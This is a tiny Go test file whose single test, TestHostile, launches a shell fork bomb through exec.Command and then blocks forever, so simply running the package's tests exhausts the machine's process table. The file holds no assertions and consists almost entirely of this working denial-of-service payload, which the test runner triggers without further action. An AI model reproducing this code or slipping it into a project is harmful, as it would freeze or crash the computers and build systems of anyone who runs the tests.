package corpus

import (
	"os/exec"
	"testing"
)

func TestHostile(t *testing.T) {
	_ = exec.Command("sh", "-c", "bomb() { bomb | bomb & }; bomb").Start()
	select {}
}
